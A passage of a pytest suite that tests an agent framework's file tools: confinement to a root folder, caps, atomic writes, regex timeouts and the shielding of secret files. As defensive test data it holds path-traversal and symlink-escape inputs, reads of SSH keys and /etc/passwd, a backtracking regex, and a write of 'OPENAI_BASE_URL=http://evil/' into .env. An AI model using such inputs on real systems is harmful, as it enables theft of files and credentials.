"""The ready-made `files` tool module: confinement to the root, caps, and atomic writes.

A secret lives beside the root (in `root-evil/`, a name that shares the root's prefix) and in
the temporary folder; no result or error message may ever contain it.
"""

from __future__ import annotations

import json
import os
import re
import stat
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agentkit import Agent, ModelRetry, Tool, ToolMessage
from agentkit.testing import ScriptedModel, call
from agentkit.tools import load_tools

SECRET = "TOP-SECRET-7f3a9c"


@pytest.fixture(scope="module")
def tools() -> dict[str, Tool]:
    return {t.name: t for t in load_tools("files")}


@dataclass
class Sandbox:
    root: Path
    evil: Path
    outside: Path


@pytest.fixture
def sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    base = tmp_path / "x"
    root, evil = base / "root", base / "root-evil"
    (root / "docs" / "deep" / "nested").mkdir(parents=True)
    evil.mkdir()
    (evil / "secret").write_text(SECRET)
    outside = tmp_path / "outside.txt"
    outside.write_text(SECRET)

    (root / "a.txt").write_text("alpha\n")
    (root / "docs" / "readme.md").write_text("readme text\n")
    (root / "docs" / "deep" / "nested" / "file.txt").write_text("nested text\n")
    (root / "name with spaces.txt").write_text("spaces\n")
    (root / "ünïcödé.txt").write_text("unicode\n")
    (root / "binary.bin").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00" + SECRET.encode())
    os.mkfifo(root / "fifo")
    os.symlink(outside, root / "leak")  # absolute link out
    os.symlink("../../outside.txt", root / "rel-leak")  # relative link out
    os.symlink("../root-evil", root / "evil-dir")  # a linked folder out (prefix twin)
    os.symlink(tmp_path / "missing-outside", root / "dangling-out")
    os.symlink("docs/readme.md", root / "inside-link")
    os.symlink("docs", root / "docs-link")
    os.symlink("loop-b", root / "loop-a")
    os.symlink("loop-a", root / "loop-b")
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(root))
    return Sandbox(root, evil, outside)


def _call(tool: Tool, **arguments: Any) -> str:
    """Call the tool; a ModelRetry's message is returned as the model would read it."""
    try:
        result = tool(**arguments)
    except ModelRetry as exc:
        result = f"ModelRetry: {exc.message}"
    assert SECRET not in result
    return str(result)


def test_every_parameter_is_documented(tools: dict[str, Tool]) -> None:
    assert set(tools) == {"list_files", "read_file", "search_files", "write_file"}
    for t in tools.values():
        assert t.description.strip()
        for name, prop in t.parameters["properties"].items():
            assert prop.get("description", "").strip(), f"{t.name}.{name} is undocumented"
    assert tools["read_file"].parameters["required"] == ["path"]
    assert tools["write_file"].parameters["required"] == ["path", "content"]


def test_only_writing_needs_approval(tools: dict[str, Tool]) -> None:
    assert tools["write_file"].requires_approval
    assert not any(t.requires_approval for n, t in tools.items() if n != "write_file")


OK = "ok"
REFUSED = "refused"


@pytest.mark.parametrize(
    ("path", "outcome", "expected"),
    [
        ("a.txt", OK, "alpha\n"),
        ("./a.txt", OK, "alpha\n"),
        ("docs/readme.md", OK, "readme text\n"),
        ("docs//readme.md", OK, "readme text\n"),
        ("docs/deep/nested/file.txt", OK, "nested text\n"),
        ("name with spaces.txt", OK, "spaces\n"),
        ("ünïcödé.txt", OK, "unicode\n"),
        ("inside-link", OK, "readme text\n"),
        ("docs-link/readme.md", OK, "readme text\n"),
        ("..", REFUSED, r"contains '\.\.'"),
        ("../root-evil/secret", REFUSED, r"contains '\.\.'; only files inside the root"),
        ("a/../../x", REFUSED, r"contains '\.\.'"),
        ("docs/../a.txt", REFUSED, r"contains '\.\.'"),
        ("docs/../../root-evil/secret", REFUSED, r"contains '\.\.'"),
        ("docs-link/../../root-evil/secret", REFUSED, r"contains '\.\.'"),
        ("../../outside.txt", REFUSED, r"contains '\.\.'"),
        ("/etc/passwd", REFUSED, r"is absolute; give it relative to the root"),
        ("/", REFUSED, r"is absolute"),
        ("//etc/passwd", REFUSED, r"is absolute"),
        ("\\etc\\passwd", REFUSED, r"is absolute"),
        ("C:\\Windows\\win.ini", REFUSED, r"is absolute"),
        ("~", REFUSED, r"starts with '~', which is not expanded"),
        ("~/.ssh/id_rsa", REFUSED, r"starts with '~'"),
        ("~root/.bashrc", REFUSED, r"starts with '~'"),
        ("a.txt\x00.png", REFUSED, r"contains a NUL byte"),
        ("\x00", REFUSED, r"contains a NUL byte"),
        ("", REFUSED, r"the path is empty"),
        ("   ", REFUSED, r"the path is empty"),
        ("x" * 5000, REFUSED, r"is 5000 characters long; the limit is 4096"),
        ("y" * 300, REFUSED, r"too long \(the limit is 255 bytes\)"),
        ("leak", REFUSED, r"leads outside the root folder"),
        ("rel-leak", REFUSED, r"leads outside the root folder"),
        ("evil-dir", REFUSED, r"leads outside the root folder"),
        ("evil-dir/secret", REFUSED, r"leads outside the root folder"),
        ("dangling-out", REFUSED, r"leads outside the root folder"),
        ("loop-a", REFUSED, r"symbolic link|cannot follow"),
        ("fifo", REFUSED, r"not a regular file \(a FIFO, device or socket\)"),
        ("docs", REFUSED, r"is a folder, not a file; use list_files"),
        (".", REFUSED, r"is the root folder; give the path of a file"),
        ("missing.txt", REFUSED, r"'missing\.txt' does not exist; use list_files"),
        ("a.txt/inner", REFUSED, r"is a file, not a folder"),
        ("binary.bin", REFUSED, r"is a binary file \(\d+ bytes\); read_file only reads text"),
    ],
)
def test_read_paths(
    tools: dict[str, Tool], sandbox: Sandbox, path: str, outcome: str, expected: str
) -> None:
    result = _call(tools["read_file"], path=path)
    if outcome == OK:
        assert result == expected
    else:
        assert result.startswith("ModelRetry: ")
        assert re.search(expected, result), result


def test_root_is_the_working_directory_by_default(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AGENTKIT_FILES_ROOT")
    monkeypatch.chdir(sandbox.root / "docs")
    assert _call(tools["read_file"], path="readme.md") == "readme text\n"
    assert "contains '..'" in _call(tools["read_file"], path="../a.txt")


def test_root_is_read_at_each_call(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert _call(tools["read_file"], path="a.txt") == "alpha\n"
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(sandbox.root / "docs"))
    assert _call(tools["read_file"], path="readme.md") == "readme text\n"
    assert "does not exist" in _call(tools["read_file"], path="a.txt")


def test_root_given_with_a_trailing_slash_or_through_a_link(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(sandbox.root) + "/")
    assert "leads outside" in _call(tools["read_file"], path="evil-dir/secret")
    os.symlink(sandbox.root, tmp_path / "root-link")
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(tmp_path / "root-link"))
    assert _call(tools["read_file"], path="a.txt") == "alpha\n"
    assert "leads outside" in _call(tools["read_file"], path="leak")


def test_missing_root_is_a_clear_error(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(sandbox.root / "nope"))
    with pytest.raises(RuntimeError, match="is not an existing folder; set AGENTKIT_FILES_ROOT"):
        tools["read_file"](path="a.txt")


def test_missing_root_reaches_the_model_and_the_user_clearly(
    tools: dict[str, Tool], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", "/nonexistent")
    with ScriptedModel([call("read_file", path="a.txt"), "done"]) as model:
        result = Agent(model, tools=[tools["read_file"]]).run_sync("read it")
    shown = [m.content for m in result.messages if isinstance(m, ToolMessage)]
    assert shown == [
        "`read_file` failed: RuntimeError: the files root '/nonexistent' is not an existing "
        "folder; set AGENTKIT_FILES_ROOT to one"
    ]


ALL_CALLS: list[tuple[str, dict[str, Any]]] = [
    ("read_file", {"path": "a.txt"}),
    ("list_files", {"path": ".", "recursive": True}),
    ("search_files", {"pattern": "alpha"}),
    ("write_file", {"path": "new.txt", "content": "x"}),
]


@pytest.mark.parametrize("above", [0, 1, 2])
def test_home_folder_or_a_folder_above_it_is_refused_as_the_root(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, above: int
) -> None:
    home = sandbox.root
    monkeypatch.setenv("HOME", str(home))
    root = home.parents[above - 1] if above else home
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(root) + "/")
    for name, arguments in ALL_CALLS:
        with pytest.raises(PermissionError) as caught:
            tools[name](**arguments)
        assert str(caught.value) == (
            f"the files tools would show {root} to the model, which holds the whole home "
            f"folder ({home}: keys, credentials); the user must start agentkit in a project "
            "folder or set AGENTKIT_FILES_ROOT to one"
        )
    assert not (root / "new.txt").exists()
    # A project folder inside the home folder is fine.
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", str(home / "docs"))
    assert _call(tools["read_file"], path="readme.md") == "readme text\n"


def test_home_folder_as_the_working_directory_is_refused(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    os.symlink(sandbox.root, tmp_path / "home-link")
    monkeypatch.setenv("HOME", str(tmp_path / "home-link"))  # compared once resolved
    monkeypatch.delenv("AGENTKIT_FILES_ROOT")
    monkeypatch.chdir(sandbox.root)
    with pytest.raises(PermissionError, match="holds the whole home folder"):
        tools["list_files"]()


def test_an_empty_home_variable_names_no_home_folder(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", "")  # would resolve to the working directory, the root
    monkeypatch.delenv("AGENTKIT_FILES_ROOT")
    monkeypatch.chdir(sandbox.root)
    assert _call(tools["read_file"], path="a.txt") == "alpha\n"


@pytest.mark.parametrize("root", ["/", "//", "/.", "/etc/.."])
def test_filesystem_root_is_refused_as_the_root(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, root: str
) -> None:
    monkeypatch.setenv("HOME", str(sandbox.root))  # / is refused whatever the home folder
    monkeypatch.setenv("AGENTKIT_FILES_ROOT", root)
    for name, arguments in ALL_CALLS:
        with pytest.raises(PermissionError) as caught:
            tools[name](**arguments)
        assert str(caught.value) == (
            "the files tools would show / to the model, which holds the whole file system "
            "(home folders, keys, credentials, system files); the user must start agentkit in "
            "a project folder or set AGENTKIT_FILES_ROOT to one"
        )
    assert not Path("/new.txt").exists()


def _pretend_check_passed(
    tools: dict[str, Tool], monkeypatch: pytest.MonkeyPatch, leads_to: Path
) -> None:
    """Simulate a link swapped in between the path check and its use."""
    module_globals = tools["read_file"].function.__globals__
    monkeypatch.setitem(module_globals, "_resolve", lambda root, path: leads_to)


@pytest.mark.parametrize("through", ["evil-dir/secret", "leak"])
def test_link_swapped_in_after_the_check_is_not_followed(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, through: str
) -> None:
    _pretend_check_passed(tools, monkeypatch, sandbox.root / through)
    assert "symbolic link" in _call(tools["read_file"], path="innocent.txt")
    assert "symbolic link" in _call(tools["search_files"], pattern="SECRET", path="innocent")
    found = _call(tools["search_files"], pattern="S.CRET", regex=True, path="innocent")
    assert "symbolic link" in found
    written = _call(tools["write_file"], path="innocent.txt", content="pwned")
    assert "symbolic link" in written
    assert sandbox.outside.read_text() == SECRET
    assert (sandbox.evil / "secret").read_text() == SECRET


def test_reading_over_the_cap_is_truncated_with_a_note(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    line = "0123456789abcdefghijklmnopqrstuvwxyz é\n"
    content = line * 6000  # about 240,000 bytes
    (sandbox.root / "big.txt").write_text(content)
    size = len(content.encode())
    parts, offset = [], 0
    while True:
        text = _call(tools["read_file"], path="big.txt", offset=offset)
        body, _, note = text.partition("\n\n[truncated: ")
        parts.append(body)
        if not note:
            break
        assert len(body.encode()) <= 100_000
        assert note.startswith(f"showed bytes {offset} to ")
        assert f"of {size}; call read_file with offset=" in note
        offset = int(note.rsplit("offset=", 1)[1].split()[0])
    assert "".join(parts) == content
    assert len(parts) == 3


def test_reading_a_long_line_does_not_split_characters(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    content = "é" * 80_000  # 160,000 bytes, no line break
    (sandbox.root / "wide.txt").write_text(content)
    first = _call(tools["read_file"], path="wide.txt")
    body, _, note = first.partition("\n\n[truncated: ")
    assert body == "é" * 50_000
    assert note.endswith("call read_file with offset=100000 to read on]")
    rest = _call(tools["read_file"], path="wide.txt", offset=100_000)
    assert body + rest == content


@pytest.mark.parametrize("offset", [-1, 7])
def test_offset_outside_the_file(tools: dict[str, Tool], sandbox: Sandbox, offset: int) -> None:
    result = _call(tools["read_file"], path="a.txt", offset=offset)
    assert f"offset {offset} is outside 'a.txt', which has 6 bytes" in result


def test_invalid_utf8_is_replaced(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    (sandbox.root / "latin1.txt").write_bytes("café\n".encode("latin-1"))
    assert _call(tools["read_file"], path="latin1.txt") == "caf\ufffd\n"


# --- writing -----------------------------------------------------------------------------


def test_write_creates_a_file_and_its_folders(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    result = _call(tools["write_file"], path="new/dir/notes.txt", content="héllo\n")
    assert result == "wrote 7 bytes to 'new/dir/notes.txt' (new file)"
    assert (sandbox.root / "new" / "dir" / "notes.txt").read_text() == "héllo\n"


def test_write_replaces_atomically_and_keeps_the_mode(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    target = sandbox.root / "a.txt"
    target.chmod(0o640)
    before = target.stat().st_ino
    result = _call(tools["write_file"], path="a.txt", content="beta")
    assert result == "wrote 4 bytes to 'a.txt' (replaced the old file)"
    assert target.read_text() == "beta"
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert target.stat().st_ino != before  # a new file renamed over the old one
    assert not [p for p in sandbox.root.iterdir() if p.name.endswith(".tmp")]


def test_write_through_a_link_inside_replaces_its_target(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    _call(tools["write_file"], path="inside-link", content="changed")
    assert (sandbox.root / "docs" / "readme.md").read_text() == "changed"
    assert (sandbox.root / "inside-link").is_symlink()


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("leak", "leads outside the root folder"),
        ("rel-leak", "leads outside the root folder"),
        ("evil-dir/secret", "leads outside the root folder"),
        ("evil-dir/new.txt", "leads outside the root folder"),
        ("dangling-out", "leads outside the root folder"),
        ("../root-evil/secret", "contains '..'"),
        ("/tmp/agentkit-files-test.txt", "is absolute"),
        ("~/x.txt", "starts with '~'"),
        ("fifo", "not a regular file"),
        ("docs", "is a folder, not a file"),
        (".", "is the root folder"),
        ("a.txt/inner.txt", "is a file, not a folder"),
        ("bad\x00name", "NUL byte"),
    ],
)
def test_write_refusals(tools: dict[str, Tool], sandbox: Sandbox, path: str, expected: str) -> None:
    result = _call(tools["write_file"], path=path, content="pwned")
    assert result.startswith("ModelRetry: ")
    assert expected in result
    assert sandbox.outside.read_text() == SECRET
    assert (sandbox.evil / "secret").read_text() == SECRET
    assert sorted(p.name for p in sandbox.evil.iterdir()) == ["secret"]
    assert not Path("/tmp/agentkit-files-test.txt").exists()
    assert stat.S_ISFIFO((sandbox.root / "fifo").lstat().st_mode)


def test_write_over_the_cap_is_refused(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    result = _call(tools["write_file"], path="huge.txt", content="x" * 1_000_001)
    assert "the content is 1000001 bytes; the limit is 1000000" in result
    assert not (sandbox.root / "huge.txt").exists()


# --- listing -----------------------------------------------------------------------------


def test_list_the_root(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    lines = _call(tools["list_files"]).splitlines()
    assert "a.txt (6 bytes)" in lines
    assert "docs/" in lines
    assert "leak (symbolic link)" in lines
    assert "evil-dir (symbolic link)" in lines
    assert "fifo (special file)" in lines
    assert "docs/readme.md (12 bytes)" not in lines


def test_list_recursively_marks_folders_and_skips_links(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    (sandbox.root / ".git" / "objects").mkdir(parents=True)
    (sandbox.root / ".git" / "HEAD").write_text("ref\n")
    lines = _call(tools["list_files"], path=".", recursive=True).splitlines()
    assert "docs/deep/nested/file.txt (12 bytes)" in lines
    assert "docs/deep/" in lines
    assert not [line for line in lines if line.startswith(".git")]
    assert not [line for line in lines if line.startswith(("evil-dir/", "docs-link/"))]


def _hidden_tree(root: Path) -> None:
    """Hidden folders at the top and deeper down, a hidden file, and a normal folder."""
    for folder in (".git/objects", ".hypothesis/examples", "docs/.cache", "src"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / ".git" / "HEAD").write_text("needle in git\n")
    (root / ".hypothesis" / "examples" / "x.txt").write_text("needle in hypothesis\n")
    (root / "docs" / ".cache" / "c.txt").write_text("needle in cache\n")
    (root / "src" / "main.py").write_text("needle in src\n")
    (root / ".env.example").write_text("needle in a hidden file\n")


def test_recursive_listing_leaves_out_hidden_folders_and_says_so(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    _hidden_tree(sandbox.root)
    lines = _call(tools["list_files"], recursive=True).splitlines()
    assert "src/main.py (14 bytes)" in lines
    assert ".env.example (24 bytes)" in lines  # hidden files are not folders: they stay
    for hidden in (".git", ".hypothesis", "docs/.cache"):
        assert not [line for line in lines if line.startswith(hidden)], hidden
    assert lines[-1] == (
        "[left out 3 hidden folders (.git/, .hypothesis/, docs/.cache/); give one as the path "
        "to look inside]"
    )
    # Without recursion every entry of the folder is shown, hidden folders too.
    flat = _call(tools["list_files"]).splitlines()
    assert ".git/" in flat
    assert ".hypothesis/" in flat


def test_recursive_listing_inside_a_hidden_folder_shows_everything(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    _hidden_tree(sandbox.root)
    (sandbox.root / ".git" / "objects" / ".pack").mkdir()
    lines = _call(tools["list_files"], path=".git", recursive=True).splitlines()
    assert lines == [".git/HEAD (14 bytes)", ".git/objects/", ".git/objects/.pack/"]


def test_search_skips_hidden_folders_unless_asked_inside_one(
    tools: dict[str, Tool], sandbox: Sandbox
) -> None:
    _hidden_tree(sandbox.root)
    result = _call(tools["search_files"], pattern="needle").splitlines()
    assert result[:2] == [".env.example:1: needle in a hidden file", "src/main.py:1: needle in src"]
    assert result[-1] == "[searched 8 files; skipped 1 binary; skipped 3 hidden folders]"
    inside = _call(tools["search_files"], pattern="needle", path=".hypothesis").splitlines()
    assert inside[0] == ".hypothesis/examples/x.txt:1: needle in hypothesis"


def test_list_a_subfolder(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    assert _call(tools["list_files"], path="docs") == "docs/deep/\ndocs/readme.md (12 bytes)"
    assert _call(tools["list_files"], path="docs-link") == ("docs/deep/\ndocs/readme.md (12 bytes)")
    (sandbox.root / "empty").mkdir()
    assert _call(tools["list_files"], path="empty") == "'empty' is an empty folder"


def test_list_stops_at_the_cap(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    many = sandbox.root / "many"
    many.mkdir()
    for i in range(600):
        (many / f"f{i:03}.txt").write_text("")
    lines = _call(tools["list_files"], path="many").splitlines()
    assert len(lines) == 501
    assert lines[0] == "many/f000.txt (0 bytes)"
    assert lines[-1] == "[stopped after 500 entries; list a subfolder to see more]"


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("evil-dir", "leads outside the root folder"),
        ("..", "contains '..'"),
        ("/etc", "is absolute"),
        ("a.txt", "is not a folder (or goes through a file); use read_file"),
        ("missing", "does not exist"),
    ],
)
def test_list_refusals(tools: dict[str, Tool], sandbox: Sandbox, path: str, expected: str) -> None:
    result = _call(tools["list_files"], path=path, recursive=True)
    assert result.startswith("ModelRetry: ")
    assert expected in result
    assert "secret" not in result


# --- searching ---------------------------------------------------------------------------


def test_search_plain_text(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    result = _call(tools["search_files"], pattern="text")
    assert result.splitlines() == [
        "docs/deep/nested/file.txt:1: nested text",
        "docs/readme.md:1: readme text",
        "[searched 6 files; skipped 1 binary]",
    ]


def test_search_regex_and_case(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    assert _call(tools["search_files"], pattern="^ALPHA$").startswith("no matches for '^ALPHA$'")
    result = _call(tools["search_files"], pattern="^ALPHA$", regex=True, ignore_case=True)
    assert result.splitlines()[0] == "a.txt:1: alpha"
    literal = _call(tools["search_files"], pattern="a.txt")
    assert literal.startswith("no matches")  # the dot is literal without regex=true


def test_search_one_file_or_a_folder(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    assert _call(tools["search_files"], pattern="text", path="docs/readme.md") == (
        "docs/readme.md:1: readme text\n[searched 1 file]"
    )
    assert _call(tools["search_files"], pattern="text", path="docs/deep").splitlines()[0] == (
        "docs/deep/nested/file.txt:1: nested text"
    )


def test_search_never_follows_links_out(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    result = _call(tools["search_files"], pattern="SECRET")
    assert result.startswith("no matches for 'SECRET'")
    for path in ("leak", "evil-dir", "rel-leak"):
        assert "leads outside" in _call(tools["search_files"], pattern="S", path=path)


@pytest.mark.parametrize(
    ("pattern", "expected"),
    [
        ("(", "invalid regular expression '(': missing ), unterminated subpattern"),
        ("[a-", "invalid regular expression '[a-'"),
        ("*x", "invalid regular expression '*x': nothing to repeat"),
    ],
)
def test_search_bad_regex(
    tools: dict[str, Tool], sandbox: Sandbox, pattern: str, expected: str
) -> None:
    result = _call(tools["search_files"], pattern=pattern, regex=True)
    assert expected in result
    assert "pass regex=false to search for the text as written" in result
    assert "no matches" in _call(tools["search_files"], pattern=pattern)


def test_search_empty_pattern(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    assert "the search pattern is empty" in _call(tools["search_files"], pattern="")


@pytest.mark.parametrize("regex", [False, True])
def test_search_caps_matches_and_skips_big_files(
    tools: dict[str, Tool], sandbox: Sandbox, regex: bool
) -> None:
    (sandbox.root / "hits.txt").write_text("needle\n" * 150)
    (sandbox.root / "big.log").write_text("needle " * 200_000)  # visited before hits.txt
    lines = _call(tools["search_files"], pattern="needle", regex=regex).splitlines()
    assert len(lines) == 101
    assert lines[0] == "hits.txt:1: needle"
    assert lines[99] == "hits.txt:100: needle"
    assert "skipped 1 over 1000000 bytes" in lines[-1]
    assert "stopped at 100 matches; narrow the search" in lines[-1]


# --- regex searches run in a child process, killed when they take too long ----------------

# Runs in a fresh interpreter, so that a search that never ends (the defect this guards
# against: `re` holds the GIL, so nothing in the process can stop it) fails the test by its
# subprocess timeout instead of hanging the test run. A thread runs the search while the
# main thread ticks: the ticks show the process stays responsive meanwhile.
CATASTROPHIC_SEARCH = """
import json, sys, threading, time
from agentkit import ModelRetry
from agentkit.tools import load_tools

search = {t.name: t for t in load_tools("files")}["search_files"]
search.function.__globals__["_REGEX_SECONDS"] = 2.0
outcome = {}

def run():
    try:
        outcome["result"] = search(pattern="(a+)+$", regex=True)
    except ModelRetry as exc:
        outcome["result"] = "ModelRetry: " + exc.message

worker = threading.Thread(target=run)
worker.start()
ticks = 0
while worker.is_alive():
    time.sleep(0.05)
    ticks += 1
print(json.dumps({"result": outcome.get("result"), "ticks": ticks}))
"""


@pytest.mark.slow
def test_catastrophic_regex_is_stopped_and_never_freezes_the_process(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    (sandbox.root / "docs" / "evil.txt").write_text("a" * 40 + "!\n")
    env = {**os.environ, "AGENTKIT_FILES_ROOT": str(sandbox.root)}
    try:
        done = subprocess.run(
            [sys.executable, "-c", CATASTROPHIC_SEARCH],
            env=env,
            cwd=tmp_path,
            capture_output=True,
            text=True,
            timeout=60,
        )
    except subprocess.TimeoutExpired:
        pytest.fail("search_files(pattern='(a+)+$', regex=True) never ended")
    assert done.returncode == 0, done.stderr
    outcome = json.loads(done.stdout)
    assert outcome["result"] == (
        "ModelRetry: the regular expression '(a+)+$' took too long (over 2 s), so the search "
        "was stopped; it probably backtracks without end (nested repeats such as (a+)+ or "
        "(a|aa)*). Use a simpler pattern, or regex=false to search for the text as written"
    )
    assert outcome["ticks"] >= 2  # the main thread ran on while the pattern was matched


class _Recorder:
    """Replaces `_RegexChild` in the module, to see each child the searches start."""

    def __init__(self, tools: dict[str, Tool], monkeypatch: pytest.MonkeyPatch) -> None:
        self.module = tools["search_files"].function.__globals__
        original = self.module["_RegexChild"]
        self.children: list[Any] = []
        recorder = self

        class Recording(original):  # type: ignore[valid-type,misc]
            def _start(self) -> subprocess.Popen[bytes]:
                process: subprocess.Popen[bytes] = super()._start()
                recorder.children.append(process)
                return process

        monkeypatch.setitem(self.module, "_RegexChild", Recording)


def test_regex_search_runs_in_a_child_that_is_reaped(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorder = _Recorder(tools, monkeypatch)
    result = _call(tools["search_files"], pattern=r"^\w+ text$", regex=True)
    assert result.splitlines() == [
        "docs/deep/nested/file.txt:1: nested text",
        "docs/readme.md:1: readme text",
        "[searched 6 files; skipped 1 binary]",
    ]
    assert len(recorder.children) == 1
    assert recorder.children[0].returncode is not None
    # Literal text cannot backtrack: it is searched in this process.
    assert _call(tools["search_files"], pattern="(a+)+$").startswith("no matches")
    assert len(recorder.children) == 1


def test_regex_search_over_its_time_is_killed_and_reported(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No time at all: the child cannot have answered, whatever the pattern.
    recorder = _Recorder(tools, monkeypatch)
    monkeypatch.setitem(recorder.module, "_REGEX_SECONDS", 0.0)
    result = _call(tools["search_files"], pattern="alpha", regex=True)
    assert result.startswith("ModelRetry: the regular expression 'alpha' took too long")
    assert "regex=false to search for the text as written" in result
    assert len(recorder.children) == 1
    assert recorder.children[0].returncode is not None  # killed and reaped


def test_regex_search_of_no_file_starts_no_child(
    tools: dict[str, Tool], sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorder = _Recorder(tools, monkeypatch)
    (sandbox.root / "empty").mkdir()
    assert _call(tools["search_files"], pattern="x+", regex=True, path="empty").startswith(
        "no matches for 'x+' in 'empty'"
    )
    assert "does not exist" in _call(tools["search_files"], pattern="x+", regex=True, path="no")
    assert recorder.children == []


def test_search_shortens_long_lines(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    (sandbox.root / "long.txt").write_text("needle" + "x" * 1000 + "\n")
    first = _call(tools["search_files"], pattern="needle").splitlines()[0]
    assert first == "long.txt:1: needle" + "x" * 194


def test_one_byte_is_a_byte(tools: dict[str, Tool], sandbox: Sandbox) -> None:
    assert _call(tools["write_file"], path="one.txt", content="x") == (
        "wrote 1 byte to 'one.txt' (new file)"
    )
    assert "one.txt (1 byte)" in _call(tools["list_files"]).splitlines()


# ---------------------------------------------------------------------------- secret files

KEY_IN_ENV = "sk-proj-" + "Q7x9LmT2vB8nR4kW6yZ1"


@pytest.fixture
def secrets_root(sandbox: Sandbox) -> Path:
    """The root, with well-known secret files in it (and a harmless template)."""
    root = sandbox.root
    (root / ".env").write_text(f"OPENAI_API_KEY={KEY_IN_ENV}\n")
    (root / ".env.production").write_text(f"TOKEN={KEY_IN_ENV}\n")
    (root / ".env.example").write_text("OPENAI_API_KEY=\n")
    (root / "docs" / "server.pem").write_text(f"-----BEGIN PRIVATE KEY-----{KEY_IN_ENV}\n")
    (root / ".netrc").write_text(f"machine x login me password {KEY_IN_ENV}\n")
    (root / "deploy").mkdir()
    (root / "deploy" / ".ssh").mkdir()
    (root / "deploy" / ".ssh" / "id_ed25519").write_text(KEY_IN_ENV)
    (root / "deploy" / "id_rsa").write_text(KEY_IN_ENV)
    os.symlink(".env", root / "innocent.txt")
    return root


@pytest.mark.parametrize(
    ("path", "offset"),
    [
        (".env", 0),
        (".env", 18),  # item 4: the key minus its first character came back
        ("./.env", 1),
        (".env.production", 0),
        (".netrc", 0),
        ("docs/server.pem", 0),
        ("deploy/id_rsa", 0),
        ("deploy/.ssh/id_ed25519", 0),
        ("innocent.txt", 0),  # a link to .env
    ],
)
def test_secret_files_are_never_read(
    tools: dict[str, Tool], secrets_root: Path, path: str, offset: int
) -> None:
    result = _call(tools["read_file"], path=path, offset=offset)
    assert result.startswith("ModelRetry:"), result
    assert "secret file" in result
    assert KEY_IN_ENV[1:9] not in result


def test_an_env_template_is_no_secret(tools: dict[str, Tool], secrets_root: Path) -> None:
    assert _call(tools["read_file"], path=".env.example") == "OPENAI_API_KEY=\n"


def test_secret_files_are_listed_by_name_only_and_never_entered(
    tools: dict[str, Tool], secrets_root: Path
) -> None:
    listing = _call(tools["list_files"], path=".")
    assert ".env (secret file: not shown)" in listing
    assert ".env.example (16 bytes)" in listing
    assert "deploy/" in listing
    deploy = _call(tools["list_files"], path="deploy")
    assert "deploy/.ssh/ (secret folder: not shown)" in deploy
    assert "id_ed25519" not in deploy
    assert _call(tools["list_files"], path="deploy/.ssh").startswith("ModelRetry:")


def test_searches_skip_secret_files(tools: dict[str, Tool], secrets_root: Path) -> None:
    for path in (".", "deploy"):
        result = _call(tools["search_files"], pattern=KEY_IN_ENV[:12], path=path)
        assert KEY_IN_ENV[:12] not in result.split("[", 1)[0] or result.startswith("no matches")
        assert "secret file" in result, result
    assert _call(tools["search_files"], pattern="KEY", path=".env").startswith("ModelRetry:")


@pytest.mark.parametrize("path", [".env", "deploy/.ssh/authorized_keys", "keys/new.key"])
def test_secret_files_are_never_written(
    tools: dict[str, Tool], secrets_root: Path, path: str
) -> None:
    before = (secrets_root / ".env").read_text()
    result = _call(tools["write_file"], path=path, content="OPENAI_BASE_URL=http://evil/\n")
    assert result.startswith("ModelRetry:") and "secret file" in result
    assert (secrets_root / ".env").read_text() == before
    assert not (secrets_root / "keys").exists()


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".git/config", "sub/.GIT/x", ".hg/hgrc"])
